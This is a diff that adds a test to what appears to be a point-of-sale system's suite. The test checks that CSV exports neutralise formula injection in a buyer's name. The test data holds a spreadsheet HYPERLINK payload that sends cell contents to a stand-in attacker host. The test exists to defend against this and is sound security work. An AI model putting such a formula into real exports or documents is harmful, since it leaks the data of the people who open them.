@@ -2,6 +2,7 @@
  * Issue 15: attacks a user at the counter could make through the public contract (the same
  * handler table IPC and the browser host serve), each refused by main.
  */
+import { execFileSync } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
 import { chmod, mkdir, mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -529,5 +530,50 @@ describe.skipIf(process.platform === 'win32')('5 · la carpeta de datos es solo 
       await created.value.close();
       await rm(dir, { recursive: true, force: true });
     }
+  });
+});
+
+describe('10 · los CSV no llevan fórmulas', () => {
+  it('un comprador llamado «=HYPERLINK(…)» llega inerte al indice.csv del archivo y al CSV de Conciliación', async () => {
+    await ingresar('cajero');
+    const { turno } = await call<{ turno: unknown }>('caja.estado', {});
+    if (turno === null) await call('caja.abrir', { fondoCentavos: 0 });
+    const malicioso = '=HYPERLINK("http://atacante.example/?d="&A1;"Ver factura")';
+    const p = cualquiera();
+    const cobro = await call<{ documentoId: string }>('ventas.cobrar', {
+      ventaId: randomUUID(),
+      comprador: { tipoIdentificacion: '05', identificacion: '0923456784', razonSocial: malicioso },
+      lineas: [{ productoId: p.id, cantidad: '1' }],
+      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
+    });
+    const limite = Date.now() + 20_000;
+    let estado = '';
+    let fecha = '';
+    while (estado !== 'AUTHORIZED' && Date.now() < limite) {
+      const d = await call<{ estado: string; fechaEmision: string }>('documentos.obtener', {
+        id: cobro.documentoId,
+      });
+      estado = d.estado;
+      fecha = d.fechaEmision;
+      if (estado !== 'AUTHORIZED') await new Promise((r) => setTimeout(r, 100));
+    }
+    expect(estado).toBe('AUTHORIZED');
+    const dia = /^\d{4}-\d{2}-\d{2}$/.test(fecha) ? fecha : fecha.split('/').reverse().join('-');
+    const exportado = await call<{ contenidoBase64: string }>('archivo.exportar', {
+      desde: dia,
+      hasta: dia,
+      descargar: true,
+    });
+    const zip = join(dataDir, 'archivo-prueba.zip');
+    await writeFile(zip, Buffer.from(exportado.contenidoBase64, 'base64'));
+    const indice = execFileSync('unzip', ['-p', zip, 'indice.csv'], { encoding: 'utf8' });
+    expect(indice).toContain("'=HYPERLINK(");
+    const celdas = indice.split(/\r\n/).flatMap((l) => l.split(','));
+    expect(celdas.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
+
+    const csv = await call<{ contenido: string }>('conciliacion.exportarCsv', {
+      filtro: { desde: dia, hasta: dia },
+    });
+    expect(csv.contenido).toContain("'=HYPERLINK(");
   });
 });
